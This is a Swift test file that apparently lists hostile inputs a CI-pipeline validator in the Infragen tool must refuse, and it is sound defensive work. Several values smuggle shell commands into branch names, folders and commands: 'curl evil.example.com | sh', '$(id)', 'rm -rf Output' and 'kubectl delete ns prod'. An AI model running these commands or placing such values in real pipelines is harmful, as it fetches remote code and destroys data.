import Infragen
import InfragenYAML

extension HostileCorpus {
    // MARK: - The delivery pipeline

    /// Every value of `Pipeline { … }` reaches a shell or a CI expression: what cannot be one plain word there is
    /// refused at its line.
    static func pipeline() -> [HostileCase] {
        var cases: [HostileCase] = []
        func refused(
            _ id: String, _ field: String, _ fragment: String, _ body: (_ file: String) -> [any PipelineComponent]
        ) {
            let f = file(id)
            let components = body(f)
            cases.append(
                .refused(id, blueprint(f, system: { Pipeline(fileID: f, line: 10) { components } }),
                         .error(field, fragment, at: f, line: 10)))
        }
        refused("pipeline-branch-with-a-command", "pipeline.mainBranch", "is not a branch name") {
            [MainBranch("main; curl evil.example.com | sh", fileID: $0, line: 10)]
        }
        refused("pipeline-branch-with-a-quote", "pipeline.mainBranch", "is not a branch name") {
            [MainBranch(#"main" || true || ""#, fileID: $0, line: 10)]
        }
        refused("pipeline-branch-with-dot-dot", "pipeline.mainBranch", "is not a branch name") {
            [MainBranch("release/../main", fileID: $0, line: 10)]
        }
        refused("pipeline-branch-empty", "pipeline.mainBranch", "is not a branch name") {
            [MainBranch("", fileID: $0, line: 10)]
        }
        refused("pipeline-source-folder-with-a-substitution", "pipeline.sourceFolders[api]",
                "is not a folder inside the repository") {
            [SourceFolder("services/$(id)", for: "api", fileID: $0, line: 10)]
        }
        refused("pipeline-source-folder-outside", "pipeline.sourceFolders[api]", "is not a folder inside the repository") {
            [SourceFolder("../elsewhere", for: "api", fileID: $0, line: 10)]
        }
        refused("pipeline-source-folder-of-no-service", "pipeline.sourceFolders[billing]", "no service 'billing'") {
            [SourceFolder("billing", for: "billing", fileID: $0, line: 10)]
        }
        refused("pipeline-render-command-with-a-newline", "pipeline.command", "must be one line") {
            [RenderCommand("swift run infragen\nrm -rf Output", fileID: $0, line: 10)]
        }
        refused("pipeline-output-folder-absolute", "pipeline.outputFolder", "is not a folder inside the repository") {
            [PipelineOutputFolder("/srv/output", fileID: $0, line: 10)]
        }
        refused("pipeline-snapshot-restore-on-two-lines", "pipeline.snapshotRestore", "must be one non-empty line") {
            [SnapshotRestore("restore.sh\nkubectl delete ns prod", fileID: $0, line: 10)]
        }
        refused("pipeline-rollout-timeout-of-a-day", "pipeline.rolloutTimeout", "outside 10 s to 1 h") {
            [RolloutTimeout(.seconds(86_400), fileID: $0, line: 10)]
        }
        // The hostile blueprint runs no canary: a gate there has nothing to judge, whatever else is wrong with it.
        func refusedGate(_ id: String, _ fragments: [String], _ gate: (String) -> ReleaseGate) {
            let f = file(id)
            let component = gate(f)
            cases.append(HostileCase(
                name: id, systems: [blueprint(f, system: { Pipeline(fileID: f, line: 10) { component } })],
                outcome: .refused(fragments.map { .error("pipeline.gate", $0, at: f, line: 10) })))
        }
        refusedGate("pipeline-gate-without-a-canary", ["no environment runs a canary"]) {
            ReleaseGate(prometheus: "http://prometheus:9090", fileID: $0, line: 10)
        }
        refusedGate("pipeline-gate-url-with-credentials",
                    ["no environment runs a canary", "is not an http(s) URL of Prometheus"]) {
            ReleaseGate(prometheus: "http://admin:pw@prometheus:9090", fileID: $0, line: 10)
        }
        refusedGate("pipeline-gate-url-with-a-quote",
                    ["no environment runs a canary", "is not an http(s) URL of Prometheus"]) {
            ReleaseGate(prometheus: "http://prometheus:9090/'$(id)'", fileID: $0, line: 10)
        }
        refusedGate("pipeline-gate-window-not-recorded",
                    ["no environment runs a canary", "is not one the canary comparison rules record"]) {
            ReleaseGate(prometheus: "http://prometheus:9090", analysis: .seconds(420), fileID: $0, line: 10)
        }
        refusedGate("pipeline-gate-tolerance-below-one",
                    ["no environment runs a canary", "outside 1 to 100"]) {
            ReleaseGate(prometheus: "http://prometheus:9090", tolerance: 0.5, fileID: $0, line: 10)
        }
        refusedGate("pipeline-gate-tolerance-not-a-number",
                    ["no environment runs a canary", "outside 1 to 100"]) {
            ReleaseGate(prometheus: "http://prometheus:9090", tolerance: .nan, fileID: $0, line: 10)
        }
        return cases
    }
}
